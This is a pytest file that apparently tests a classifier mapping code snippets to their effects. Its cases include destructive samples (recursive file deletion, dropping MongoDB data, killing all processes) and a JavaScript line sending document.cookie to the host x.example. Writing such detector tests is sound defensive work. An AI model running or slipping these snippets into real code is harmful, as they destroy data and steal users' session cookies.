"""Files that a program finds and then handles one by one: the pattern is the target. Objects of clients name theirs."""

import pytest

from classifiers.code import classify_code
from classifiers.context import Context

PATIENT = Context(max_ms=5_000)  # a collection of garbage may take 50 ms


def short(action):
    return [f"{e.action} {e.domain}:{e.target}" for e in action.effects]


CASES = [
    (
        "python",
        "import os\nfor top, folders, files in os.walk('/srv/a'):\n    for f in files:\n        os.remove(os.path.join(top, f))",
        ["read filesystem:/srv/a", "delete filesystem:/srv/a/**/*"],
    ),
    (
        "python",
        (
            "import os\nold = [n for n in os.listdir('/srv/a') if n.endswith('.log')]\nfor i, n in enumerate(sorted(old)):\n"
            "    os.unlink(f'/srv/a/{n}')"
        ),
        ["read filesystem:/srv/a", "delete filesystem:/srv/a/*"],
    ),
    (
        "python",
        "import glob, os\nfor f in glob.glob('/srv/*.txt'):\n    os.rename(f, f.replace('.txt', '.md'))",
        ["read filesystem:/srv/*.txt", "modify filesystem:/srv/*.txt", "modify filesystem:/srv/*.md"],
    ),
    (
        "python",
        "from pathlib import Path\nfor p in Path('/srv').rglob('*.pyc'):\n    p.unlink()",
        ["read filesystem:/srv", "delete filesystem:/srv/**/*.pyc"],
    ),
    (
        "python",
        "import os\nfor f in [x for x in ['a', 'b'] if x != 'a']:\n    os.remove(f)",
        ["delete filesystem:None"],
    ),
    (
        "javascript",
        "const fs = require('fs');\nfs.readdirSync('/srv').filter(f => f.endsWith('.log')).forEach(f => fs.unlinkSync('/srv/' + f))",
        ["read filesystem:/srv", "delete filesystem:/srv/*"],
    ),
    (
        "php",
        "foreach (glob('/srv/*.php') as $f) unlink($f);",
        ["read filesystem:/srv/*.php", "delete filesystem:/srv/*.php"],
    ),
    (
        "ruby",
        "Dir['/srv/*.log'].each { |f| File.delete(f) }",
        ["read filesystem:/srv/*.log", "delete filesystem:/srv/*.log"],
    ),
    ("perl", "unlink glob('/srv/*.tmp');", ["read filesystem:/srv/*.tmp", "delete filesystem:/srv/*.tmp"]),
    (
        "python",
        (
            "from pymongo import MongoClient\ndb = MongoClient('mongodb://db.example')['shop']\ndb['carts'].find_one()\n"
            "db.get_collection('orders').drop()\ndb.client.drop_database('old')"
        ),
        [
            "read database:db:mongodb:db.example/shop/carts",
            "delete database:db:mongodb:db.example/shop/orders",
            "delete database:db:mongodb:db.example/old",
        ],
    ),
    (
        "python",
        "import docker\nfor c in docker.from_env().containers.list():\n    c.stop()\ndocker.from_env().containers.get('web').remove()",
        ["read containers:None", "control containers:None", "delete containers:container:web"],
    ),
    (
        "python",
        "import boto3\nt = boto3.resource('dynamodb').Table('orders')\nt.put_item(Item={})\nt.scan()",
        ["modify cloud:aws:*:*:dynamodb:orders", "read cloud:aws:*:*:dynamodb:orders"],
    ),
    ("python", "import psutil\nfor p in psutil.process_iter():\n    p.kill()", ["control process:None"]),
    (
        "javascript",
        "fetch('https://x.example/?c=' + document.cookie)",
        ["read secrets:cookies", "receive network:x.example"],
    ),
]


@pytest.mark.parametrize(("language", "code", "expected"), CASES)
def test_what_is_found_is_what_is_handled(language, code, expected):
    action = classify_code(code, language, PATIENT)
    assert short(action) == expected
    assert action.complete
